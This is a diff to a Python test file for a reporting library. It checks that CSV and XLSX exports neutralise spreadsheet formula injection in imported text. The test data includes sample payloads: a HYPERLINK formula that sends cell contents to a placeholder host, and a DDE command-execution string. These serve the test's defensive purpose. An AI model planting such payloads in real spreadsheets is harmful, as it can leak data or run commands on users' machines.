@@ -9,6 +9,7 @@ import io
 import math
 import re
 import tempfile
+import zipfile
 from pathlib import Path
 
 from hypothesis import given, settings
@@ -22,6 +23,7 @@ from sterkte.report.markdown import to_markdown
 from sterkte.report.table import Column, Format, Table
 from sterkte.report.terminal import print_table
 from sterkte.report.xlsx import write_xlsx
+from sterkte.sources.textcells import from_text_cell, text_cell
 
 numbers = st.floats(min_value=-1e7, max_value=1e7, allow_nan=False, allow_infinity=False)
 cells = st.one_of(numbers, numbers, numbers, st.none(), st.just(math.nan), st.just("×"))
@@ -93,6 +95,40 @@ def test_a_table_in_parts_carries_its_part_and_row_key_in_the_csv() -> None:
         ["Table", "Rij", "Flow", "2022"],
         ["Table 3", "OS at start of year", "opening", "46188.25"],
         ["Table 4", "Trainees at start of year", "opening", "4782"]]
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"team")', "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(A1:A9)", "=1+1"]
+
+
+def test_text_from_imported_files_never_runs_as_a_formula_in_a_spreadsheet() -> None:
+    # a team code or person id from an imported file could be a formula; the CSV and XLSX
+    # writers put text out as text (a leading apostrophe in CSV, a text cell in XLSX),
+    # numbers and dashes that are no formula as they are
+    t = Table("t", "", [Column("team", "Team", "text"), Column("n", "N")], lang="nl",
+              key_header="Code")
+    for i, text in enumerate(FORMULAS):
+        t.add(text if i == 0 else f"k{i}", [text, -1.5])
+    t.add("plain", ["-", -1701.0])
+    t.add("sign", ["+31 6", 2.0])
+    rows = parse_csv(to_csv(t), "nl")[1:]
+    assert [r[0] for r in rows[:len(FORMULAS)]] == ["'" + f for f in FORMULAS]
+    assert rows[0][1] == "'" + FORMULAS[0]  # the row key too
+    assert rows[len(FORMULAS)] == ["-", "plain", "-1701"]
+    assert rows[len(FORMULAS) + 1][0] == "'+31 6"
+    assert all(r[-1].startswith("-1") for r in rows[:len(FORMULAS)])
+    assert [from_text_cell(text_cell(f)) for f in [*FORMULAS, "-", "-1,5", "x"]] == [
+        *FORMULAS, "-", "-1,5", "x"]
+    with tempfile.TemporaryDirectory() as d:
+        path = write_xlsx([t], Path(d) / "t.xlsx")
+        ws = load_workbook(path).active
+        assert ws is not None
+        got = [ws.cell(4 + i, 1) for i in range(len(FORMULAS))]
+        assert [c.value for c in got] == FORMULAS  # the text itself, not a formula
+        assert {c.data_type for c in got} == {"s"}
+        # and no formula anywhere in the file
+        with zipfile.ZipFile(path) as z:
+            assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.endswith(".xml"))
 
 
 @settings(max_examples=25, deadline=None)
